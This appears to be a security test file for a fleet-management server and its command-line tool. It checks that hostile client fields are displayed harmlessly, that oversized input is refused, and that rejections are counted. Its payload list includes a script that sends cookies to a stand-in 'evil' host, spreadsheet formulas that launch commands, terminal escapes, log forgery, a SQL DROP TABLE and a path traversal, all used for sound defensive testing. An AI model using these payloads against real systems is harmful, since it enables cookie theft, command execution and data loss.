/**
 * A client whose every field is made to hurt whoever looks at it: script tags, escapes of terminals, overrides of the
 * direction of writing, formulas of spreadsheets, 100 KB. Command line and log show it harmlessly; what the protocol does
 * not take is refused, and counted.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";

import { encodePlainMessage } from "../../src/config/message-wire.ts";
import type { ContactData } from "../../src/core/contact.ts";
import { deriveMessageId, hexToBytes, parseMessageId } from "../../src/core/ids.ts";
import type { Message } from "../../src/core/message.ts";
import { encodeClientInfo, encodeMessageError } from "../../src/proto/system-codec.ts";
import { runBinary, startBinary } from "../helpers/binary.ts";
import { CompiledServer } from "../helpers/compiled-server.ts";
import { freePort } from "../helpers/free-port.ts";
import { RawClient, newTestIdentity } from "../helpers/raw-client.ts";
import { clientMessage, contactRecord } from "../helpers/server-fixture.ts";
import { waitFor } from "../helpers/wait-for.ts";

/** All of what the protocol takes: at most 128 characters. */
const hostile = [
  `<script>fetch("//evil/"+document.cookie)</script><img src=x onerror=alert(1)>`,
  "\u202egnp.tnediced\u202c\u2066\u200f\u061c",
  `=cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|'/C calc'!A0`,
  "\u001b[2J\u001b]0;owned\u0007\u009b31m\u001b[8m",
  `one\r\n12:00:00.000 [ERR] server: forged\n{"level":"error"}`,
  "\u2028\u2029\u0085\u0000\u007f",
  `"; DROP TABLE message_rows; --{clientId}{reason}%s%n\${x}`,
  "../../../etc/passwd",
];
const large = "x".repeat(100_000);

const identity = newTestIdentity();
let server: CompiledServer;
let stats = 0;

function systemMessage(messageType: string, value: Uint8Array): Message {
  return clientMessage("system", {
    source: { clientId: undefined, serviceName: "system" },
    messageType,
    data: { typeUrl: "type.googleapis.com/x", value },
  });
}

async function poll(
  fields: Partial<ContactData>,
  { labels = [], headers = "", from = identity }: Options = {},
): Promise<number> {
  const { port, caCertificate: trustedRoots } = server;
  using client = await RawClient.connect({ port, trustedRoots, identity: from });
  const body = contactRecord(fields, labels);
  const length = `Content-Length: ${body.length}\r\n`;
  const head = `POST /message HTTP/1.1\r\nHost: x\r\n${length}${headers}\r\n`;
  client.socket.write(Buffer.concat([Buffer.from(head), body]));
  return await client.status();
}

interface Options {
  readonly labels?: readonly string[];
  readonly headers?: string;
  readonly from?: typeof identity;
}

function idOf({ source, sourceMessageId }: Message): string {
  return deriveMessageId(identity.clientId, source.serviceName, hexToBytes(sourceMessageId));
}

async function command(...args: readonly string[]) {
  return await runBinary([...args, "--admin_addr", `unix:${server.socket}`]);
}

/** Printable ASCII in lines that a person can look at. */
function expectHarmless(text: string): void {
  // Shorter than the whole text, where it fails.
  const at = text.search(/[^\x20-\x7e\n]/);
  expect(at < 0 ? "" : text.slice(Math.max(0, at - 60), at + 60)).toBe("");
  const longest = Math.max(...text.split("\n").map((line) => line.length));
  expect(longest).toBeLessThan(20_000);
}

async function metric(name: string): Promise<number> {
  const text = await (await fetch(`http://127.0.0.1:${stats}/metrics`)).text();
  const found = text.split("\n").filter((line) => line.startsWith(name));
  return found.reduce((sum, line) => sum + Number(line.split(" ").at(-1)), 0);
}

const hostileMessages: readonly Message[] = hostile.flatMap((text) => [
  clientMessage("sink", {
    messageType: text,
    source: { clientId: undefined, serviceName: text },
    annotations: [{ key: text, value: text }],
    data: { typeUrl: text, value: Buffer.from(text) },
  }),
  clientMessage(text, { messageType: text }),
  systemMessage(text, Buffer.from(text)),
  systemMessage(
    "KillNotification",
    encodePlainMessage("fleetspeak.monitoring.KillNotification", { service: text, version: text }),
  ),
  systemMessage(
    "ResourceUsage",
    encodePlainMessage("fleetspeak.monitoring.ResourceUsageData", { scope: text, version: text }),
  ),
]);

const commands: readonly (readonly string[])[] = [
  ["clients", "list"],
  ["clients", "show", identity.clientId],
  ["message", "pending", identity.clientId],
  ["message", "list", "--client", identity.clientId],
  ["message", "stats", "--by", "type,service"],
];

const calls: readonly (readonly string[])[] = [
  ["list_clients"],
  ["get_client", "--client_id", identity.clientId],
  ["list_messages", "--client_id", identity.clientId],
  ["list_log_events"],
];

/** What the live feed prints from here to an event of this client with `last` in it. */
async function watch(flags: readonly string[], run: () => Promise<void>, last: string) {
  const at = ["--admin_addr", `unix:${server.socket}`];
  // An event that the server does not know makes it say so: from there on nothing is missed.
  await using watching = startBinary(["watch", "--since", "nothing", ...at, ...flags]);
  await watching.waitForLine(/reset|events may be missing/);
  await run();
  await waitFor(() => watching.stdout().includes(last), {
    what: `"${last}" in:\n${watching.stdout()}${watching.stderr()}`,
  });
  return watching.stdout() + watching.stderr();
}

describe.each(["CONSOLE", "JSON"])("a hostile client, with a log for %s", (format) => {
  let refusedId = "";

  beforeAll(async () => {
    stats = freePort();
    server = await CompiledServer.start({
      extension: `log { level: DEBUG format: ${format} }`,
      sections: `stats_config { address: "127.0.0.1:${stats}" }`,
    });
    const headers = `Fleet-Client: <script>=cmd|'x'\r\nUser-Agent: \u001b[2J\r\n`;
    expect(await poll({}, { labels: hostile })).toBe(200);
    expect(await poll({}, { headers: headers.replace("\u001b", "") })).toBe(200);
    const labels = hostile.map((label) => ({ serviceName: "client", label }));
    const services = hostile.map((text) => ({ name: text, signature: Buffer.from(text) }));
    const info = encodeClientInfo({ labels, services });
    expect(await poll({ messages: [systemMessage("ClientInfo", info)] })).toBe(200);
    for (let start = 0; start < hostileMessages.length; start += 10) {
      expect(await poll({ messages: hostileMessages.slice(start, start + 10) })).toBe(200);
    }
    const sent = await command("message", "send", identity.clientId, "endpoint", "Anything");
    expect([sent.status, sent.stderr]).toEqual([0, ""]);
    refusedId = sent.stdout.trim();
    const fault = encodeMessageError(parseMessageId(refusedId), `${hostile.join("")}${large}`);
    expect(await poll({ messages: [systemMessage("MessageError", fault)] })).toBe(200);
    await command("message", "send", identity.clientId, "endpoint", hostile[0] ?? "");
  });
  afterAll(() => server[Symbol.asyncDispose]());

  test.each(commands)("is shown harmlessly by fleet %s %s", async (...words) => {
    for (const flags of [[], ["--json"]]) {
      const { status, stdout, stderr } = await command(...words, ...flags);
      expect([status, stderr]).toEqual([0, ""]);
      expect(stdout.length).toBeGreaterThan(0);
      expectHarmless(stdout);
    }
  });

  test.each([[[]], [["--json"]]])("is shown harmlessly by fleet watch %j", async (flags) => {
    const from = newTestIdentity();
    const messages = hostile.map((text) =>
      clientMessage("sink", {
        messageType: text,
        source: { clientId: undefined, serviceName: text },
      }),
    );
    const run = async () => {
      expect(await poll({}, { labels: hostile, from })).toBe(200);
      expect(await poll({ messages }, { from })).toBe(200);
    };
    const shown = await watch(flags, run, "passwd");
    expectHarmless(shown);
    expect(shown).toContain(from.clientId);
    expect(shown).toContain("<script>");
    expect(shown.split("\n").filter((line) => /^(?:12:00|\{"level)/.test(line))).toEqual([]);
  });

  test("its labels are what it said, to a program that reads JSON", async () => {
    const { stdout } = await command("clients", "show", identity.clientId, "--json");
    const shown = JSON.stringify(JSON.parse(stdout));
    for (const text of hostile) expect(shown).toContain(JSON.stringify(text).slice(1, -1));
  });

  test("the life of each of its messages is shown harmlessly", async () => {
    for (const message of hostileMessages) {
      const { status, stdout, stderr } = await command("message", "status", idOf(message));
      // Those for services that do not exist, or of types that nobody knows, have failed.
      expect([0, 1, 4]).toContain(status);
      expectHarmless(stdout + stderr);
      if (status === 4) continue;
      for (const flags of [[], ["--json"]]) {
        const traced = await command("message", "trace", idOf(message), ...flags);
        expect(traced.stderr).toBe("");
        expectHarmless(traced.stdout);
      }
    }
  }, 120_000);

  test.each(calls)("fleet api %s prints it harmlessly", async (...words) => {
    const { status, stdout, stderr } = await command("api", ...words);
    expect([status, stderr]).toEqual([0, ""]);
    // A line of JSON may hold all of a long reason.
    expect(stdout).toMatch(/^[\x20-\x7e\n]+$/);
  });

  test("why a message failed there is shown harmlessly, and cut", async () => {
    for (const flags of [[], ["--json"]]) {
      const { status, stdout, stderr } = await command("message", "status", refusedId, ...flags);
      expect(status).toBe(1);
      expect(stdout + stderr).toContain("<script>");
      // To a program, it is all that the client said.
      if (flags.length > 0) expect(stdout).toMatch(/^[\x20-\x7e\n]*$/);
      else expectHarmless(stdout);
      expect(stdout.split("\n")).toHaveLength(flags.length > 0 ? 8 : 2);
    }
  });

  test("each event is one harmless line of the log", async () => {
    expectHarmless(server.log);
    const lines = server.log.split("\n").slice(0, -1);
    expect(lines.length).toBeGreaterThan(10);
    const start = /^(?:\d\d:\d\d:\d\d\.\d{3} \[(?:DBG|INF|WRN|ERR)\] [a-z.-]+: |\{"time":")/;
    expect(lines.filter((line) => !start.test(line))).toEqual([]);
    expect(lines.filter((line) => /^\S+ \[ERR\] server: forged/.test(line))).toEqual([]);
    if (format === "JSON") for (const line of lines) JSON.parse(line);
  });

  describe("what the protocol does not take is refused, with a reason", () => {
    test("a label: the contact", async () => {
      const before = await metric('fleet_contacts_rejected_total{stage="contact"}');
      const from = newTestIdentity();
      expect(await poll({}, { labels: [large], from })).toBe(400);
      expect(await poll({}, { labels: Array.from({ length: 101 }, String), from })).toBe(400);
      expect(await metric('fleet_contacts_rejected_total{stage="contact"}')).toBe(before + 2);
      await waitFor(() => server.log.includes("a label has at most 128 characters"), {
        what: "the reason",
      });
      const { stdout } = await command("clients", "list", "--json");
      expect(stdout).not.toContain(from.clientId);
      expectHarmless(server.log);
    });

    test("a label that is not UTF-8: the contact", async () => {
      const from = newTestIdentity();
      expect(await poll({}, { labels: ["\ud800"], from })).toBe(400);
      await waitFor(() => server.log.includes("not valid"), { what: "the reason" });
      expectHarmless(server.log);
    });

    const tooLarge: readonly (readonly [string, Partial<Message>])[] = [
      ["a message type", { messageType: large }],
      ["a source service", { source: { clientId: undefined, serviceName: large } }],
      ["a destination service", { destination: { clientId: undefined, serviceName: large } }],
      ["annotations", { annotations: [{ key: large, value: large }] }],
    ];
    test.each(tooLarge)("%s: the message", async (_, fields) => {
      const before = await metric("fleetspeak_server_messages_dropped_total");
      const [bad, good] = [clientMessage("sink", fields), clientMessage("sink")];
      expect(await poll({ messages: [bad, good] })).toBe(200);
      expect(await metric("fleetspeak_server_messages_dropped_total")).toBe(before + 1);
      expect((await command("message", "status", idOf(good))).status).toBe(0);
      expectHarmless(server.log);
    });

    test.each(["KillNotification", "ResourceUsage"])("a name in a %s: the report", async (type) => {
      const before = await metric("fleetspeak_server_messages_dropped_total");
      const data =
        type === "KillNotification"
          ? encodePlainMessage("fleetspeak.monitoring.KillNotification", { service: large })
          : encodePlainMessage("fleetspeak.monitoring.ResourceUsageData", { scope: large });
      const report = systemMessage(type, data);
      expect(await poll({ messages: [report] })).toBe(200);
      expect(await metric("fleetspeak_server_messages_dropped_total")).toBe(before + 1);
      expectHarmless((await command("message", "status", idOf(report))).stdout);
      expectHarmless(server.log);
    });
  });
});
